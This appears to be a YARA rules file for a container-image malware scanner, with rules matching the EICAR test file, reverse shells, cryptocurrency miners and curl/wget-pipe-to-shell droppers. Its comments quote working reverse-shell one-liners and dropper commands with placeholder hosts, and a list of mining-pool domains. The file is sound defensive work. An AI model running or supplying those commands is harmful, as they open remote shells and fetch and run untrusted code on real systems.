// Rampart's own YARA rules: a few indicators that are malicious wherever they appear in an image's
// executables, scripts and libraries. Written for both YARA-X and YARA 4 (no module imports).
// The tag is the risk, as in malcontent: only `high` and `critical` matches become findings.
// Must-fire and must-not-fire samples: src/image/malware/fixtures/.

rule rampart_eicar_test_file : critical {
  meta:
    description = "the EICAR anti-virus test file"
    reference = "https://www.eicar.org/download-anti-malware-testfile/"
  strings:
    // the first 32 bytes, written as hex so that this file is not itself taken for the test file
    $head = { 58 35 4f 21 50 25 40 41 50 5b 34 5c 50 5a 58 35 34 28 50 5e 29 37 43 43 29 37 7d 24 45 49 43 41 52 }
    $tail = "-STANDARD-ANTIVIRUS-TEST-FILE!"
  condition:
    $head and $tail
}

rule rampart_reverse_shell : critical {
  meta:
    description = "a reverse shell: an interactive shell whose input and output are a network connection"
  strings:
    // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1, sh -i 5<> /dev/tcp/…
    $dev_tcp_shell = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]?[<>&]{1,3}\s*\/dev\/(tcp|udp)\/[^\s\/"']+\/[0-9]{1,5}/
    // exec 5<>/dev/tcp/host/port; cat <&5 | while read line; do $line 2>&5 >&5; done (alone, exec N<>/dev/tcp is a health check)
    $dev_tcp_exec = /exec\s+[0-9]+<>\s*\/dev\/(tcp|udp)\/[^\s\/"']+\/[0-9]{1,5}/
    $fd_command_loop = /do\s+\$\w+\s+2>&\s*[0-9]+\s+>&\s*[0-9]+/
    $shell_from_fd = /\b(ba)?sh\s+(-i\s+)?[0-9]?<&\s*[0-9]+/
    // nc -e /bin/sh host port, ncat --exec bash, busybox nc -e sh
    $nc_exec = /\bn(c|cat|etcat)(\.[a-z]+)?\s+([^|;\n]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s+['"]?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh\b/
    // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f
    $fifo_nc = /mkfifo\s+\S+[^\n]{0,80}\|\s*(\/bin\/)?(ba)?sh\s+-i[^\n]{0,40}\|\s*(nc|ncat|netcat|telnet)\s/
    // socat exec:'bash -li',pty,stderr tcp:host:port
    $socat = /socat\s+[^\n]{0,40}exec:['"]?(\/bin\/)?(ba|z)?sh[^\n]{0,60}tcp[46]?:[^\s:]+:[0-9]{1,5}/ nocase
    // python -c 'import socket,subprocess,os;s=socket.socket(…);s.connect((…));os.dup2(s.fileno(),0)…pty.spawn("/bin/sh")'
    $py_dup2 = /os\.dup2\(\s*\w+\.fileno\(\)\s*,\s*0\s*\)/
    $py_shell = /(pty\.spawn|subprocess\.(call|Popen|run))\(\s*\[?\s*["'](\/bin\/)?(ba|z)?sh["']/
    // perl -e 'use Socket;…open(STDIN,">&S");…exec("/bin/sh -i");'
    $perl_stdin = /open\(\s*STDIN\s*,\s*["']>&\s*\w+["']\s*\)/
    $perl_exec = /exec\(\s*["'](\/bin\/)?(ba)?sh\s+-i["']\s*\)/
  condition:
    filesize < 16MB and (
      $dev_tcp_shell or ($dev_tcp_exec and ($fd_command_loop or $shell_from_fd)) or $nc_exec or $fifo_nc or $socat or
      ($py_dup2 and $py_shell) or ($perl_stdin and $perl_exec)
    )
}

rule rampart_crypto_miner : critical {
  meta:
    description = "a cryptocurrency miner: a stratum pool URL, or a miner's own options and a mining pool"
  strings:
    $stratum = /stratum[0-9]?\+(tcp|ssl|tls|wss?):\/\/[a-zA-Z0-9._-]+(:[0-9]{1,5})?/ nocase
    $donate = "--donate-level" ascii wide
    $xmrig = "xmrig" ascii wide nocase
    $algo_rx = "rx/0" ascii
    $algo_cn = "cryptonight" ascii nocase
    $pool_1 = "supportxmr.com" ascii nocase
    $pool_2 = "moneroocean.stream" ascii nocase
    $pool_3 = "minexmr.com" ascii nocase
    $pool_4 = "nanopool.org" ascii nocase
    $pool_5 = "c3pool.com" ascii nocase
    $pool_6 = "hashvault.pro" ascii nocase
    $pool_7 = "2miners.com" ascii nocase
    $pool_8 = "f2pool.com" ascii nocase
    $pool_9 = "xmrpool.eu" ascii nocase
    $pool_10 = "herominers.com" ascii nocase
    $pool_11 = "unmineable.com" ascii nocase
    $pool_12 = "nicehash.com" ascii nocase
  condition:
    $stratum or ($donate and ($xmrig or $algo_rx or $algo_cn)) or (any of ($pool_*) and ($donate or $xmrig or $algo_rx or $algo_cn))
}

rule rampart_download_pipe_shell : critical {
  meta:
    description = "a dropper: a script that downloads code and pipes it straight into a shell"
  strings:
    // curl -fsSL http://…/x.sh | sh, wget -qO- … | bash, curl … | sudo bash -s
    $pipe = /\b(curl|wget|fetch)\s[^|\n;&]{0,300}(https?|ftp):\/\/[^|\n;&]{1,300}\|\s*(sudo\s+(-\S+\s+)*)?(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh\b/
    // sh -c "$(curl -fsSL http://…)", bash <(wget -qO- …)
    $subst = /\b(ba|da|z)?sh\s+(-c\s+)?["']?(\$\(|<\(|`)\s*(curl|wget)\s[^)`\n]{0,300}(https?|ftp):\/\//
    // wget http://1.2.3.4/x -O /tmp/x; chmod +x /tmp/x; /tmp/x
    $fetch_tmp = /\b(curl|wget)\s[^\n]{0,200}https?:\/\/[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}[^\n]{0,200}\/(tmp|dev\/shm|var\/tmp)\/[^\n]{0,200}chmod\s+(\+x|[0-7]?7[0-7][0-7])/
  condition:
    filesize < 4MB and any of them
}
